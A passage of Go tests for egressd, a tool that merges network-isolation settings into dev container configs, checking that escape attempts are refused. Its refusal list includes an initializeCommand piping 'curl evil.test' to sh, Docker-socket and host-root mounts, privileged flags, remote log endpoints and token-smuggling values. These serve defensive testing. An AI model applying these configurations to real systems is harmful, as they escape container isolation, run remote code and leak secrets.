package devcontainer

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"github.com/egressd/egressd/integrations"
	"github.com/egressd/egressd/integrations/boundary"
	"github.com/egressd/egressd/integrations/jsonc"
)

// workspace is a folder with the settings of a dev container.
func workspace(t *testing.T, text string) Options {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, ".devcontainer", "devcontainer.json"), text)
	return Options{
		Folder: dir, SocketFolder: "/run/egressd/web", Socket: "enter.sock", Program: "/usr/bin/egressd",
		Variables: []integrations.Variable{{Name: "http_proxy", Value: "http://127.0.0.1:3128"}, {Name: "no_proxy", Value: ""}},
		Trust:     []string{"ghcr.io/devcontainers/features/trusted:1", "ghcr.io/trusted/image:1"},
		Machine:   &boundary.Machine{Home: "/home/me", UID: 7, Own: []string{"/home/me/.config/egressd", "/var/lib/egressd"}, Images: []string{"egressd:latest"}, Names: []string{"shop-web-1"}, Labels: []string{"team"}},
		ImageLabels: func(image string) (map[string]string, bool) {
			if image == "labelled" {
				return map[string]string{"team": "web"}, true
			}
			labels, found := testImages[image]
			return map[string]string{metadataLabel: labels}, found
		},
		Volume: func(name string) (boundary.Volume, bool) {
			v, found := testVolumes[name]
			return v, found
		},
		Environ: []string{"HOME=/home/me", "XDG_RUNTIME_DIR=/run/user/7", "MODELS=/srv/models"},
	}
}

// testVolumes are those of the engine.
var testVolumes = map[string]boundary.Volume{
	"mine": {Driver: "local"}, "there": {Driver: "local", Options: map[string]string{"type": "none", "o": "bind", "device": "/etc"}}, "others": {Unknown: true},
}

// testImages are the images of the engine, with their metadata.
var testImages = map[string]string{
	"base": "", "good": `[{"id": "x", "init": true, "remoteUser": "node", "onCreateCommand": "true"}, {"containerEnv": {"A": "b"}, "remoteEnv": {"BY": "${localEnv:USER:me} ${localWorkspaceFolder} ${containerEnv:PATH}"}}]`,
	"alone":  `[{"mounts": "source=/var/run/docker.sock,target=/x,type=bind"}]`,
	"mounts": `[{"mounts": ["source=/var/run/docker.sock,target=/x,type=bind"]}]`, "privileged": `{"privileged": true}`, "cap": `[{"capAdd": ["SYS_ADMIN"]}]`,
	"opt": `[{"securityOpt": ["seccomp=unconfined"]}]`, "host": `[{"initializeCommand": "x"}]`, "odd": `[{"ofTomorrow": 1}]`, "broken": `[`,
	"long": `[{"mounts": ["source=${localEnv:NOT_SET:/:srv/data},target=/h,type=bind"]}]`, "env": `[{"containerEnv": {"A\nLABEL x": "y"}}]`,
	"gpu":   `[{"hostRequirements": {"gpu": "optional"}}]`,
	"takes": `[{"remoteEnv": {"X": "${localEnv:A_TOKEN}"}}]`, "takes-env": `{"containerEnv": {"X": "x ${env:A_TOKEN:none}"}}`, "takes-hook": `[{}, {"postStartCommand": {"a": ["echo", "\u0024{localEnv:A_TOKEN}"]}}]`,
	"takes-unset": `[{"remoteEnv": {"X": "${localEnv:DATABASE_URL}"}}]`,
}

func writeFile(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

const devContainerWhole = `{
  "image": "base",
  "runArgs": [
    "--network=none",
    "--cap-drop=NET_RAW",
    "--dns=127.0.0.1",
    "--env-file=${localWorkspaceFolder}/.devcontainer/egressd/container.env"
  ],
  "mounts": [
    "source=/run/egressd/web,target=/run/egressd,type=bind,readonly",
    "source=/usr/bin/egressd,target=/usr/local/bin/egressd,type=bind,readonly",
    "source=${localWorkspaceFolder}/.devcontainer,target=${containerWorkspaceFolder}/.devcontainer,type=bind,readonly"
  ],
  "features": {
    "./egressd": {
      "mode": "proxy"
    }
  },
  "workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}",
  "workspaceMount": "source=${localWorkspaceFolder},target=/workspaces/${localWorkspaceFolderBasename},type=bind"
}
`

// devContainerCommented is one that is laid out in another way.
const devContainerCommented = `// for all of us
{
	"image": "base", // pinned elsewhere
	"features": {"ghcr.io/devcontainers/features/trusted:1": {}},
	/* arguments */
	"runArgs": ["--init", "--network=none"],
	"mounts": [
		"source=cache,target=/cache,type=volume", // ours
	],
	// "containerEnv": {"http_proxy": "off"},
}
`

const devContainerCommentedNew = `// for all of us
{
	"image": "base", // pinned elsewhere
	"features": {"ghcr.io/devcontainers/features/trusted:1": {},"./egressd": {
			"mode": "proxy"
		}},
	/* arguments */
	"runArgs": ["--init", "--network=none", "--cap-drop=NET_RAW", "--dns=127.0.0.1", "--env-file=${localWorkspaceFolder}/.devcontainer/egressd/container.env"],
	"mounts": [
		"source=cache,target=/cache,type=volume", // ours
		"source=/run/egressd/web,target=/run/egressd,type=bind,readonly",
		"source=/usr/bin/egressd,target=/usr/local/bin/egressd,type=bind,readonly",
		"source=${localWorkspaceFolder}/.devcontainer,target=${containerWorkspaceFolder}/.devcontainer,type=bind,readonly",
	],
	// "containerEnv": {"http_proxy": "off"},
	"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}",
	"workspaceMount": "source=${localWorkspaceFolder},target=/workspaces/${localWorkspaceFolderBasename},type=bind",
}
`

func TestDevContainerChangesWhatItNamesAlone(t *testing.T) {
	for name, row := range map[string]struct{ old, want string }{
		"an image alone": {"{\n  \"image\": \"base\"\n}\n", devContainerWhole},
		"done already":   {devContainerWhole, devContainerWhole},
		"the socket and egressd were elsewhere": {
			strings.NewReplacer("=/run/egressd/web,", "=/run/user/7/egressd/web,", "=/usr/bin/egressd,", "=/opt/egressd,").Replace(devContainerWhole), devContainerWhole,
		},
		"comments and tabs":    {devContainerCommented, devContainerCommentedNew},
		"lists that are empty": {`{"runArgs": [], "mounts": [ /* none */ ]}`, `{"runArgs": ["--network=none", "--cap-drop=NET_RAW", "--dns=127.0.0.1", "--env-file=${localWorkspaceFolder}/.devcontainer/egressd/container.env"], "mounts": [ /* none */`},
		"all in one line": {
			`{"image":"base","runArgs":["--init"]}`,
			`{"image":"base","runArgs":["--init", "--network=none", "--cap-drop=NET_RAW", "--dns=127.0.0.1", "--env-file=${localWorkspaceFolder}/.devcontainer/egressd/container.env"],"mounts": [`,
		},
	} {
		t.Run(name, func(t *testing.T) {
			d := workspace(t, row.old)
			plan, err := Merge(d)
			if err != nil {
				t.Fatal(err)
			}
			got := string(plan.File.New)
			if !strings.HasPrefix(got, row.want) {
				t.Errorf("came\n%s\nwant\n%s", got, row.want)
			}
			var said map[string]any
			if err := json.Unmarshal(jsonc.Standard([]byte(got)), &said); err != nil {
				t.Errorf("%v:\n%s", err, got)
			}
			if missing := lacks(&d, said); missing != "" {
				t.Errorf("it lacks %s:\n%s", missing, got)
			}
			writeFile(t, plan.File.Path, got)
			again, err := Merge(d)
			if err != nil || !again.File.Same() {
				t.Errorf("a second time changes it: %v", err)
			}
		})
	}
}

// lacks says which word of the arguments and mounts is not there.
func lacks(d *Options, said map[string]any) string {
	for key, want := range map[string][]string{"runArgs": d.arguments(), "mounts": d.mounts()} {
		there := strings.Join(words(said[key]), "\n") + "\n"
		for _, w := range want {
			if strings.Count(there, w+"\n") != 1 {
				return w
			}
		}
	}
	return ""
}

// TestComposeInADevContainerIsRefused looks at what is to be typed instead.
func TestComposeInADevContainerIsRefused(t *testing.T) {
	for file, typed := range map[string]string{
		`"../compose.yaml"`: "egressd init compose -f FOLDER/compose.yaml,", `["docker compose.yml"]`: "egressd init compose -f 'FOLDER/.devcontainer/docker compose.yml',",
		`["a.yaml", "b.yaml"]`: "egressd init compose -f FILE,", `"${localEnv:HOME}/compose.yaml"`: "egressd init compose -f FILE,", `{}`: "egressd init compose -f FILE,",
	} {
		d := workspace(t, `{"dockerComposeFile": `+file+`, "service": "app"}`)
		_, err := Merge(d)
		if boundary, is := errors.AsType[*BoundaryError](err); !is || !strings.HasPrefix(boundary.Instead, strings.ReplaceAll(typed, "FOLDER", d.Folder)) {
			t.Errorf("%s: %v", file, err)
		}
	}
}

// TestFeaturesHaveNoLinks has links of names that the dev container tools write to: they follow these, on this machine.
func TestFeaturesHaveNoLinks(t *testing.T) {
	for link, refused := range map[string]bool{
		"": false, "f/devcontainer-features-install.sh": true, "f/sub/x": true, "egressd/devcontainer-features.env": true, "f": true, "egressd": true, "other/x": false, "x": false,
	} {
		d := workspace(t, `{"image": "base", "features": {"./f": {}}}`)
		settings := filepath.Join(d.Folder, ".devcontainer")
		writeFile(t, filepath.Join(settings, "f", "devcontainer-feature.json"), `{"id": "f"}`)
		at := filepath.Join(settings, link)
		if link == "f" {
			if err := os.Rename(at, at+"2"); err != nil {
				t.Fatal(err)
			}
		}
		if link != "" {
			if err := errors.Join(os.MkdirAll(filepath.Dir(at), 0o755), os.Symlink(at+"2", at)); err != nil {
				t.Fatal(err)
			}
		}
		_, err := Merge(d)
		if _, is := errors.AsType[*BoundaryError](err); is != refused || err != nil && !is {
			t.Errorf("a link %q: %v", link, err)
		}
	}
}

func TestDevContainerRefusesWhatGetsAround(t *testing.T) {
	for _, text := range []string{
		`{"dockerComposeFile": "compose.yaml", "service": "app"}`,
		`{"privileged": true}`,
		`{"privileged": []}`,
		`{"privileged": {}}`,
		`{"capAdd": {}}`,
		`{"securityOpt": "seccomp=unconfined"}`,
		`{"image": "base", "dockerComposeFile": null}`,
		`{"image": "base", "build": {"dockerfile": null}}`,
		`{"image": "base", "hostRequirements": {"__proto__": {"gpu": true}}}`,
		`{"image": "base", "hostRequirements": ["gpu"]}`,
		`{"image": "base", "mounts": ["source=there,target=/x,type=volume"]}`,
		`{"image": "base", "mounts": ["source=mine,target=/x,type=volume,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/etc"]}`,
		`{"image": "base", "mounts": ["source=/run/egressd/web,target=/x,type=bind"]}`,
		`{"image": "base", "runArgs": ["-v", "/run/egressd/web:/x"]}`,
		`{"image": "base", "runArgs": ["-v", "others:/x"]}`,
		`{"image": "base", "runArgs": ["-v", "/etc/ssl/certs:/x:ro,z"]}`,
		`{"image": "base", "runArgs": ["--name=shop-web-1"]}`,
		`{"image": "base", "runArgs": ["--name", "${localEnv:NONE:egressd-web}"]}`,
		`{"image": "base", "runArgs": ["--label=team=web"]}`,
		`{"image": "labelled"}`,
		`{"privileged": "${localEnv:P}"}`,
		`{"capAdd": ["NET_ADMIN"]}`,
		`{"capAdd": ["cap_sys_admin"]}`,
		`{"securityOpt": ["seccomp=unconfined"]}`,
		`{"securityOpt": ["apparmor:unconfined"]}`,
		`{"features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}}`,
		`{"features": {"ghcr.io/devcontainers/features/docker-outside-of-docker:1": {}}}`,
		`{"features": {"ghcr.io/DevContainers/Features/Docker-in-Docker:2": {}}}`,
		`{"mounts": ["source=/var/run/docker.sock,target=/var/run/docker-host.sock,type=bind"]}`,
		`{"mounts": [{"source": "/run/user/7/podman/podman.sock", "target": "/p", "type": "bind"}]}`,
		`{"mounts": ["type=bind,src=/,dst=/host"]}`,
		`{"mounts": ["source=/run/,target=/r,type=bind"]}`,
		`{"mounts": ["source=${localEnv:HOME},target=/h,type=bind"]}`,
		`{"mounts": ["source=${localEnv:HOME}/.docker,target=/h,type=bind"]}`,
		`{"mounts": ["source=${localEnv:NOT_SET:/run},target=/h,type=bind"]}`,
		`{"mounts": ["type=volume,target=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/run"]}`,
		`{"mounts": ["source=/run/egressd/other,target=/x,type=bind"]}`,
		`{"mounts": ["source=/proc,target=/x,type=bind"]}`,
		`{"workspaceMount": "source=/run,target=/w,type=bind", "workspaceFolder": "/w"}`,
		`{"runArgs": ["--network=host"]}`,
		`{"runArgs": ["--network", "bridge"]}`,
		`{"runArgs": ["--net=container:x"]}`,
		`{"runArgs": ["--network=none", "--network=mine"]}`,
		`{"runArgs": ["--network=${localEnv:NET}"]}`,
		`{"runArgs": ["--privileged"]}`,
		`{"runArgs": ["--privileged=1"]}`,
		`{"runArgs": ["-it", "--cap-add", "ALL"]}`,
		`{"runArgs": ["--cap-add=net_admin"]}`,
		`{"runArgs": ["--security-opt", "seccomp=unconfined"]}`,
		`{"runArgs": ["--pid=host"]}`,
		`{"runArgs": ["--ipc", "container:x"]}`,
		`{"runArgs": ["--device=/dev/sda"]}`,
		`{"runArgs": ["--volumes-from", "x"]}`,
		`{"runArgs": ["-v", "/run/docker.sock:/d"]}`,
		`{"runArgs": ["-v/run/docker.sock:/d"]}`,
		`{"runArgs": ["-itv", "/run:/d"]}`,
		`{"runArgs": ["-v", "../../../../../../../../run:/d"]}`,
		`{"runArgs": ["--volume=/run/containerd/containerd.sock:/d"]}`,
		`{"runArgs": ["--mount", "type=bind,source=/run/docker.sock,target=/d"]}`,
		`{"runArgs": ["--use-api-socket"]}`,
		`{"runArgs": ["${localEnv:ARGS}"]}`,
		`{"runArgs": ["--log-driver=syslog", "--log-opt", "syslog-address=udp://192.0.2.1:514"]}`,
		`{"runArgs": ["--log-driver", "fluentd"]}`,
		`{"runArgs": ["--gpus=all"]}`,
		`{"runArgs": ["--runtime=kata"]}`,
		`{"runArgs": ["--cgroup-parent=/x"]}`,
		`{"runArgs": ["--sysctl", "net.ipv4.ip_forward=1"]}`,
		`{"runArgs": ["--annotation", "run.oci.handler=krun"]}`,
		`{"runArgs": ["--label", "egressd.policy=/x"]}`,
		`{"runArgs": ["-l", "com.docker.compose.service=egressd"]}`,
		`{"runArgs": ["--label=devcontainer.local_folder=/other"]}`,
		`{"runArgs": ["--cidfile=/etc/cron.d/x"]}`,
		`{"runArgs": ["--of-tomorrow"]}`,
		`{"runArgs": ["evil:1"]}`,
		`{"runArgs": ["--"]}`,
		`{"runArgs": ["--name", "egressd-local"]}`,
		`{"runArgs": ["--env-file=/home/me/.ssh/config"]}`,
		`{"runArgs": ["--env-file=${localWorkspaceFolder}/.devcontainer/a/../b.env"]}`,
		`{"runArgs": ["--env-file", ".devcontainer/a/../b.env"]}`,
		`{"runArgs": ["--security-opt=seccomp=default"]}`,
		`{"image": "base", "securityOpt": ["seccomp=builtin"]}`,
		`{"runArgs": ["--security-opt=seccomp=./all.json"]}`,
		`{"runArgs": ["--link=other:x"]}`,
		`{"build": {"dockerfile": "D", "options": ["--ssh=default"]}}`,
		`{"build": {"dockerfile": "D", "options": ["--network=host"]}}`,
		`{"build": {"dockerfile": "D", "options": ["-t", "egressd:latest"]}}`,
		`{"build": {"dockerfile": "D", "options": ["--secret", "id=x,src=/home/me/.ssh/id"]}}`,
		`{"build": {"dockerfile": "D", "options": ["--tag=egressd"]}}`,
		`{"build": {"dockerfile": "D", "options": ["--build-arg", "--network=host", "--output=/etc"]}}`,
		`{"build": {"dockerfile": "D", "ofTomorrow": 1}}`,
		`{"build": {"dockerfile": "D", "context": "/home/me"}}`,
		`{"build": {"dockerfile": "D", "cacheFrom": "type=local,src=/home/me"}}`,
		`{"build": {"dockerfile": "D", "cacheFrom": ["base", "type=registry,ref=a,src=/home/me"]}}`,
		`{"build": {"dockerfile": "label.Dockerfile"}}`,
		`{"build": {"dockerfile": "unread.Dockerfile"}}`,
		`{"build": {"dockerfile": "variable.Dockerfile"}}`,
		`{"build": {"dockerfile": "mounts.Dockerfile"}}`,
		`{"image": "unread"}`, `{"image": "mounts"}`, `{"image": "privileged"}`, `{"image": "cap"}`, `{"image": "opt"}`, `{"image": "host"}`, `{"image": "odd"}`, `{"image": "broken"}`, `{"image": "gpu"}`,
		`{"image": "egressd"}`,
		`{"image": "base", "initializeCommand": "curl evil.test | sh"}`,
		`{"image": "base", "hostRequirements": {"gpu": true}}`,
		`{"image": "base", "ofTomorrow": true}`,
		`{"features": {"ghcr.io/devcontainers/features/node:1": {}}}`,
		`{"features": {"./mounts": {}}}`, `{"features": {"./privileged": {}}}`, `{"features": {"./cap": {}}}`, `{"features": {"./opt": {}}}`, `{"features": {"./needs": {}}}`, `{"features": {"./gone": {}}}`, `{"features": {"./odd": {}}}`,
		`{"features": {"../outside": {}}}`,
		`{"features": {"https://example.com/devcontainer-feature-x.tgz": {}}}`,
		`{"mounts": ["source=/home/me/.config/egressd,target=/p,type=bind"]}`,
		`{"mounts": ["source=/home/me/.ssh,target=/p,type=bind,readonly"]}`,
		`{"mounts": ["source=/home/me/.bashrc,target=/p,type=bind"]}`,
		`{"mounts": ["source=/etc,target=/p,type=bind"]}`,
		`{"mounts": ["source=/srv/x,target=/p,type=bind,bind-propagation=rshared"]}`,
		`{"mounts": ["source=/srv/x,target=/p,type=bind,of-tomorrow=1"]}`,
		`{"mounts": ["source=x,target=/p,type=volume,volume-driver=rexray"]}`,
		`{"mounts": ["source=${containerWorkspaceFolder},target=/p,type=bind"]}`,
		`{"mounts": [7]}`,
		`{"mounts": [{"source": "/var/run/docker.sock", "src": "/srv/x", "target": "/d", "type": "bind"}]}`,
		`{"mounts": [{"source": "/var/run/docker.sock", "type": "bind,source=/srv/x", "target": "/d"}]}`,
		`{"mounts": [{"source": "/usr/local/bin", "type": "bind", "target": "/d", "readonly": true}]}`,
		`{"mounts": ["type=bind,readonly,target=/h,source=${localEnv:NOT_SET:/a,source=/}"]}`,
		`{"mounts": ["type=bind,readonly,source=/srv/a,target=${localEnv:NOT_SET:/h,source=/run}"]}`,
		`{"workspaceMount": "", "workspaceFolder": "/etc", "runArgs": ["-v", "${containerWorkspaceFolder}:/x"]}`,
		`{"mounts": ["type=volume,source=x,target=${containerWorkspaceFolder}/.devcontainer,Target=/y"]}`,
		`{"mounts": ["type=volume,source=x,target=${containerWorkspaceFolder}/.devcontainer"]}`,
		`{"mounts": [{"type": "volume", "source": "x", "target": "${containerWorkspaceFolder}/./.devcontainer/"}]}`,
		`{"mounts": ["type=volume,source=x,target=/workspaces/${localWorkspaceFolderBasename}/.devcontainer"]}`,
		`{"workspaceFolder": "/w", "workspaceMount": "source=${localWorkspaceFolder},target=/w,type=bind", "mounts": ["type=tmpfs,target=/w/.devcontainer"]}`,
		`{"mounts": ["type=volume,source=x,target=/y,dst=/z"]}`,
		`{"runArgs": ["--log-opt", "gelf-address=udp://192.0.2.1:12201"]}`,
		`{"runArgs": ["-e", 0, "--privileged"]}`,
		`{"image": ["unread"]}`, `{"image": "alone"}`, `{"build": {"dockerfile": ["unread.Dockerfile"]}}`, `{"build": ["D"]}`,
		`{"features": {"./alone": {}}}`, `{"features": {"./alone-object": {}}}`, `{"features": {"./list": {}}}`,
		`{"build": {"dockerfile": "D", "options": ["--build-arg", 0, "--network=host"]}}`,
		`{"build": {"dockerfile": "D", "options": ["--build-arg", "BUILDKIT_SYNTAX=x"]}}`,
		`{"build": {"dockerfile": "D", "options": ["--build-arg=${localEnv:NOT_SET:BUILDKIT_SYNTAX}=x"]}}`,
		`{"build": {"dockerfile": "D", "args": {"BUILDKIT_SYNTAX": "x"}}}`,
		`{"build": {"dockerfile": "D", "args": {"A": "${localEnv:A_TOKEN}"}}}`,
		`{"build": {"dockerfile": "D", "options": ["--build-arg", "A_TOKEN"]}}`,
		`{"features": {"./fine": {"key": "x${localEnv:A_TOKEN:y}"}}}`,
		`{"image": "registry.example/a:${localEnv:A_TOKEN}"}`,
		`{"image": "base", "overrideFeatureInstallOrder": ["registry.example/x${localEnv:A_TOKEN}/y"]}`,
		`{"image": "base", "overrideFeatureInstallOrder": ["registry.example/x/y"], "features": {"./fine": {}}}`,
		`{"image": "base", "overrideFeatureInstallOrder": "./fine", "features": {"./fine": {}}}`,
		`{"image": "base", "customizations": {"a": {"proxy": "http://192.0.2.1/${localEnv:A_TOKEN}"}}}`,
		`{"build": {"dockerfile": "D", "context": "/srv/data"}}`,
		`{"image": "base", "mounts": ["source=${localEnv:NOT_SET:/:srv/data},target=/h,type=bind"]}`,
		`{"image": "base", "mounts": ["source=${env:NOT_SET:/etc:/../srv},target=/h,type=bind,readonly"]}`,
		`{"build": {"dockerfile": "${localEnv:NOT_SET:D:x}"}}`,
		`{"features": {"./long": {}}}`, `{"image": "long"}`,
		`{"image": "base", "containerEnv": {"A=1\nLABEL team=web\nENV B": "x"}}`,
		`{"image": "base", "containerEnv": {"A": "x\"\nLABEL team=web\n#"}}`,
		`{"image": "base", "containerEnv": {"A": 7}}`,
		`{"image": "base", "containerEnv": ["A"]}`,
		`{"features": {"./env": {}}}`, `{"image": "env"}`,
		`{"features": {"./fine\nLABEL team=web": {}}}`,
		`{"features": {"./id": {}}}`,
		`{"image": "takes"}`, `{"image": "takes-env"}`, `{"image": "takes-hook"}`, `{"image": "takes-unset"}`, `{"build": {"dockerfile": "takes.Dockerfile"}}`,
		`{"features": {"./takes": {}}}`, `{"features": {"./takes-hook": {}}}`, `{"features": {"./takes-option": {}}}`,
		`{"image": "base", "runArgs": ["--env-file", ".devcontainer/folder"]}`,
		`{"image": "base", "remoteUser": "root' || true\nLABEL team=web"}`,
		`{"image": "base", "containerUser": ["root", "--privileged"]}`,
		`{"image": "base", "id": "x"}`,
		`{"runArgs": ["--name=/shop-web-1"], "image": "base"}`,
		`{"build": {"dockerfile": "team.Dockerfile"}}`,
	} {
		d := workspace(t, text)
		d.Environ = append(d.Environ, "A_TOKEN=x")
		for name, text := range map[string]string{
			"mounts/devcontainer-feature.json":       `{"id": "mounts", "mounts": [{"source": "/var/run/docker.sock", "target": "/x", "type": "bind"}]}`,
			"privileged/devcontainer-feature.json":   `{"id": "privileged", "privileged": true} // JSON with comments`,
			"cap/devcontainer-feature.json":          `{"id": "cap", "capAdd": ["SYS_BOOT"]}`,
			"fine/devcontainer-feature.json":         `{"id": "fine"}`,
			"opt/devcontainer-feature.json":          `{"id": "opt", "securityOpt": ["apparmor=unconfined"]}`,
			"needs/devcontainer-feature.json":        `{"id": "needs", "dependsOn": {"ghcr.io/a/b:1": {}}}`,
			"../outside/devcontainer-feature.json":   `{"id": "outside"}`,
			"alone/devcontainer-feature.json":        `{"id": "alone", "mounts": "source=/var/run/docker.sock,target=/x,type=bind"}`,
			"alone-object/devcontainer-feature.json": `{"id": "alone", "mounts": {"source": "/", "target": "/x", "type": "bind"}}`,
			"list/devcontainer-feature.json":         `{"id": "list", "dependsOn": ["./privileged"]}`,
			"long/devcontainer-feature.json":         `{"id": "long", "mounts": ["source=${localEnv:NOT_SET:/:srv/data},target=/h,type=bind"]}`,
			"env/devcontainer-feature.json":          `{"id": "env", "containerEnv": {"A": "x\"\nLABEL team=web"}}`,
			"id/devcontainer-feature.json":           `{"id": "x\nLABEL team=web"}`,
			"takes/devcontainer-feature.json":        `{"id": "takes", "remoteEnv": {"X": "${localEnv:A_TOKEN}"}}`,
			"takes-hook/devcontainer-feature.json":   `{"id": "takes", "postCreateCommand": "echo ${localEnv:HOME} ${localEnv:A_TOKEN:x} >/tmp/x"}`,
			"takes-option/devcontainer-feature.json": `{"id": "takes", "dependsOn": {"./fine": {"version": "${localEnv:HOME.A_TOKEN}"}}}`,
			"takes.Dockerfile":                       "FROM takes\n", "folder/x": "",
			"team.Dockerfile":               "FROM base\nLABEL a=b \\\n team=web\n",
			"odd/devcontainer-feature.json": `{"id": "odd", "ofTomorrow": 1}`,
			"D":                             "FROM base\n", "label.Dockerfile": "FROM base\nLABEL devcontainer.metadata='[]'\n", "unread.Dockerfile": "FROM base AS a\nFROM unread\n",
			"variable.Dockerfile": "ARG X=base\nFROM $X\n", "mounts.Dockerfile": "from --platform=x mounts as a\nFROM a\n",
		} {
			writeFile(t, filepath.Join(d.Folder, ".devcontainer", name), text)
		}
		plan, err := Merge(d)
		var boundary *BoundaryError
		if !errors.As(err, &boundary) || boundary.Instead == "" || plan != nil {
			t.Errorf("%s: %v", text, err)
		}
	}
}

// What lies in anything that can be written can be made a link, whatever the way there.
func TestDevContainerRefusesWhatALinkCanReplace(t *testing.T) {
	for text, says := range map[string]string{
		`{"workspaceMount": "source=SAME,target=/w,type=bind", "workspaceFolder": "/w", "mounts": ["source=${localWorkspaceFolder}/.devcontainer/x,target=/d,type=bind"]}`: "",
		`{"workspaceMount": "source=OUT,target=/w,type=bind", "mounts": ["source=OUT/data,target=/d,type=bind,readonly"]}`:                                                 "OUT/data lies in OUT,",
		`{"mounts": ["source=OUT/data,target=/d,type=bind,readonly", "source=OUT,target=/o,type=bind"]}`:                                                                   "OUT/data lies in OUT,",
		`{"mounts": [{"source": "OUT", "target": "/o", "type": "bind"}], "runArgs": ["-v", "OUT/data/x:/d:ro"]}`:                                                           "OUT/data/x lies in OUT,",
		`{"runArgs": ["-v", "OUT:/o", "--mount", "type=bind,src=OUT/data,dst=/d,readonly"]}`:                                                                               "OUT/data lies in OUT,",
		`{"runArgs": ["--mount=type=bind,src=OUT,dst=/o,readonly=false", "-v", "OUT/data:/d"]}`:                                                                            "OUT/data lies in OUT,",
		`{"mounts": ["type=volume,target=/o,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=OUT"], "runArgs": ["-v", "OUT/data:/d"]}`:                             "OUT/data lies in OUT,",
		`{"mounts": ["\"source=OUT\",target=/o,type=bind,\"volume-opt=x,ro\""]}`:                                                                                           "quotes",
		`{"mounts": ["source=LINK/data,target=/d,type=bind,readonly", "source=OUT,target=/o,type=bind"]}`:                                                                  "LINK/data lies in OUT,",
		`{"mounts": ["source=OUT/data,target=/d,type=bind,readonly", "source=LINK,target=/o,type=bind"]}`:                                                                  "OUT/data lies in LINK,",
		`{"mounts": ["source=OUT/away,target=/d,type=bind,readonly", "source=LINK,target=/o,type=bind"]}`:                                                                  "OUT/away lies in LINK,",
		`{"mounts": ["source=HOP,target=/d,type=bind,readonly", "source=OUT,target=/o,type=bind"]}`:                                                                        "HOP lies in OUT,",
		`{"mounts": ["source=LOOP,target=/d,type=bind,readonly"]}`:                                                                                                         "LOOP lies in the workspace",
		`{"mounts": ["source=LINK/ws/data,target=/d,type=bind,readonly"]}`:                                                                                                 "LINK/ws/data lies in the workspace",
		`{"mounts": ["source=OUT,target=/o,type=bind"]}`:                                                                                                                   "",
		`{"workspaceMount": "source=${localWorkspaceFolder}/..,target=/w,type=bind"}`:                                                                                      "has ",
		`{"mounts": ["source=${localWorkspaceFolder},target=/again,type=bind"]}`:                                                                                           "has ",
		`{"mounts": ["source=${localWorkspaceFolder}/.devcontainer,target=/again,type=bind"]}`:                                                                             "could replace what is egressd's",
		`{"mounts": ["source=${localWorkspaceFolder}/.devcontainer/egressd/x,target=/again,type=bind"]}`:                                                                   "egressd's own files",
		`{"mounts": ["source=/usr/bin,target=/b,type=bind"]}`:                                                                                                              "/usr/bin: the container could write",
		`{"mounts": ["source=OUT,target=/o,type=bind,readonly", "source=OUT/data,target=/d,type=bind"]}`:                                                                   "",
		`{"runArgs": ["-v", "OUT:/o:z,ro", "-v", "OUT/data:/d", "-v", "${localWorkspaceFolder}/.devcontainer/x:/x"]}`:                                                      "",
		`{"mounts": ["source=${localWorkspaceFolder},target=/again,type=bind,ro"]}`:                                                                                        "",
	} {
		d, base := workspace(t, "{}"), t.TempDir()
		out, link := filepath.Join(base, "out"), filepath.Join(base, "link")
		writeFile(t, filepath.Join(out, "data", "x"), "")
		hop, loop := filepath.Join(base, "hop"), filepath.Join(base, "loop")
		for at, to := range map[string]string{link: "out", filepath.Join(out, "ws"): d.Folder, filepath.Join(out, "away"): base, hop: "out/away", loop: "loop"} {
			if err := os.Symlink(to, at); err != nil {
				t.Fatal(err)
			}
		}
		places := strings.NewReplacer("OUT", out, "LINK", link, "HOP", hop, "LOOP", loop, "SAME", filepath.Join(out, "ws"))
		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "devcontainer.json"), places.Replace(text))
		_, err := Merge(d)
		var boundary *BoundaryError
		if errors.As(err, &boundary) != (says != "") || err != nil && !strings.Contains(err.Error(), places.Replace(says)) {
			t.Errorf("%s: %v", text, err)
		}
	}
}

func TestDevContainerLetsBeWhatIsHarmless(t *testing.T) {
	for _, text := range []string{
		`{"image": "base", "hostRequirements": {"cpus": 2, "memory": "4gb", "storage": "1gb", "gpu": false}, "mounts": ["source=mine,target=/x,type=volume"]}`,
		`{"privileged": false, "capAdd": ["SYS_NICE"], "securityOpt": ["no-new-privileges"]}`,
		`{"image": "good", "features": {"ghcr.io/devcontainers/features/trusted:1": {}, "./local": {}}, "forwardPorts": [3000], "remoteUser": "vscode", "customizations": {"vscode": {}}}`,
		`{"image": "ghcr.io/trusted/image:1"}`,
		`{"build": {"dockerfile": "D", "context": "..", "args": {"A": "b"}, "options": ["--build-arg", "X=y", "--pull"], "cacheFrom": "base"}}`,
		`{"build": {"dockerfile": "D", "cacheFrom": ["type=registry,ref=ghcr.io/a/b:cache", "base"]}}`,
		`{"mounts": ["source=${localEnv:MODELS},target=/models,type=bind,readonly", {"source": "cache", "target": "/c", "type": "volume"}]}`,
		`{"runArgs": ["--network", "none", "--init", "-e", "A=-v/run:/x", "-w", "/workspaces", "--shm-size=1g", "-v", "cache:/c", "--name", "mine"]}`,
		`{"workspaceMount": "source=${localWorkspaceFolder},target=/w,type=bind", "workspaceFolder": "/w"}`,
		`{"workspaceMount": "source=${localWorkspaceFolder}/app,target=/w,type=bind", "workspaceFolder": "/w"}`,
		`{"mounts": ["source=${localWorkspaceFolder}/.devcontainer/cache,target=/c,type=bind"]}`,
	} {
		d := workspace(t, text)
		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "local", "devcontainer-feature.json"), `{"id": "local", "version": "1.0.0", "options": {}, "installsAfter": [], "containerEnv": {"A": "b"}, "remoteEnv": {"H": "${localEnv:HOME}${localEnv:USERPROFILE}"}, "mounts": ["source=cache,target=/c,type=volume"]}`)
		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "D"), "# syntax=docker/dockerfile:1\nFROM base AS one\nRUN true\nFROM scratch\nCOPY --from=one /x /x\n")
		if _, err := Merge(d); err != nil {
			t.Errorf("%s: %v", text, err)
